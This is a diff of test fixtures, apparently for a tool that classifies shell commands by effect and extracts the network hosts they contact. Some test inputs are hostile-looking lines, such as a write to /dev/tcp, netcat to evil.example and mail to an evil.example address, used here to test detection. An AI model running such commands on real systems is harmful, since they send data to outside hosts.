@@ -148,7 +148,10 @@ git branch -D main                         => read delete
 git stash drop                             => write delete
 git commit -m x                            => write
 git checkout .                             => write
-git clone https://x.example/r              => fetch
+git clone https://x.example/r              => fetch write
+git pull                                   => fetch write
+powershell -Command "Remove-Item x"        => execute delete
+cmd /c del x                               => execute delete
 git config --global user.name x            => configure
 git log --output=x                         => read write
 git rebase -x 'rm y' main                  => write execute
@@ -593,6 +596,10 @@ def test_other_paths_are_not(command: str) -> None:
         ("echo x > /dev/tcp/198.51.100.7/80", "198.51.100.7"),
         ("bash -c 'curl https://inner.example'", "inner.example"),
         ("nc evil.example 443", "evil.example"),
+        ("psql postgresql://me:secret@db.example/x -c 'select 1'", "db.example"),
+        ("pg_dump -h db.example prod", "db.example"),
+        ("mail -s hello eve@evil.example", "evil.example"),
+        ("aws s3 cp x s3://bucket/key", ""),
         ("ls", ""),
     ],
 )
